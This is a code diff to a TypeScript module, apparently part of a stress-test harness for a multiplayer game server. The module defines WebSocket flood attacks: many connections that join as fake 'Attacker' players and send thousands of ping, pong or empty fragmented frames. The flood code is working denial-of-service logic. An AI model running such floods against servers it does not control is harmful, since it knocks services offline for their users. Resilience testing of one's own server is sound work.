@@ -3,47 +3,42 @@ import { type Attack, CONNECTIONS, Counter, type Target, keepAttacking } from '.
 import { RawClient } from './raw-client.ts';
 
 /** The number of frames in one write. */
-const FRAMES = 5000;
+const FRAMES = 4800;
 
-const SOME_BYTES = Buffer.from('abcd');
-const NOTHING = Buffer.alloc(0);
+/** The number of fragments of a message: the most that the host takes. */
+const FRAGMENTS = 16;
 
 /** The first bytes of frames: FIN and the opcode (RFC 6455, section 5.2). */
 const PING = 0x89;
 const PONG = 0x8a;
 const TEXT_TO_BE_CONTINUED = 0x01;
-const CONTINUATION_TO_BE_CONTINUED = 0x00;
+const TO_BE_CONTINUED = 0x00;
+const LAST = 0x80;
 
-/** Frames that are allowed, and mean nothing to the game. */
-const floods = [
-  { name: 'pongs', first: NOTHING, frames: repeated(frame(PONG, SOME_BYTES)) },
-  { name: 'pings', first: NOTHING, frames: repeated(frame(PING, SOME_BYTES)) },
-  {
-    name: 'empty fragments',
-    first: frame(TEXT_TO_BE_CONTINUED, NOTHING),
-    frames: repeated(frame(CONTINUATION_TO_BE_CONTINUED, NOTHING)),
-  },
+const SOME_BYTES = Buffer.from('abcd');
+const NOTHING = Buffer.alloc(0);
+
+const middle = Array.from({ length: FRAGMENTS - 2 }, () => frame(TO_BE_CONTINUED, NOTHING));
+const fragments = Buffer.concat([frame(TEXT_TO_BE_CONTINUED, NOTHING), ...middle, frame(LAST, NOTHING)]);
+
+/** Floods of frames that the protocol allows and that mean nothing to the game. Every other attacker has a seat. */
+export const frameAttacks: readonly Attack[] = [
+  flooding('pongs', repeated(frame(PONG, SOME_BYTES), FRAMES)),
+  flooding('pings', repeated(frame(PING, SOME_BYTES), FRAMES)),
+  flooding('empty fragments', repeated(fragments, FRAMES / FRAGMENTS)),
 ];
 
-type Flood = (typeof floods)[number];
+function flooding(title: string, frames: Buffer): Attack {
+  return { name: title.replace(' ', '-'), title, run: (target, signal) => send(target, signal, frames) };
+}
 
-/** Floods of control frames and fragments. */
-export const frameAttacks: readonly Attack[] = floods.flatMap((flood) =>
-  [false, true].map((hasSeat) => ({
-    name: `${flood.name.replace(' ', '-')}${hasSeat ? '-seated' : ''}`,
-    title: `${flood.name}, ${hasSeat ? 'with' : 'without'} a seat`,
-    run: (target: Target, signal: AbortSignal) => send(target, signal, flood, hasSeat),
-  })),
-);
-
-async function send(target: Target, signal: AbortSignal, { first, frames }: Flood, hasSeat: boolean) {
+async function send(target: Target, signal: AbortSignal, frames: Buffer) {
   const counter = new Counter('frames sent', 'connections');
   await keepAttacking(CONNECTIONS, signal, async (attacker) => {
     const client = await RawClient.open(target, signal);
     if (!client || !(await client.upgrade())) return client?.drop();
     counter.add('connections');
-    if (hasSeat) client.send(joinFrame(target, attacker));
-    client.send(first);
+    if (attacker % 2 === 0) client.send(joinFrame(target, attacker));
     counter.add('frames sent', FRAMES * (await client.flood(frames, signal)));
   });
   return counter.loot;
@@ -55,6 +50,6 @@ export function joinFrame({ pin }: Target, attacker: number): Buffer {
   return textFrame({ type: 'join', pin, name: `Attacker ${attacker}`, token });
 }
 
-function repeated(one: Buffer): Buffer {
-  return Buffer.concat(Array.from({ length: FRAMES }, () => one));
+function repeated(bytes: Buffer, times: number): Buffer {
+  return Buffer.concat(Array.from({ length: times }, () => bytes));
 }
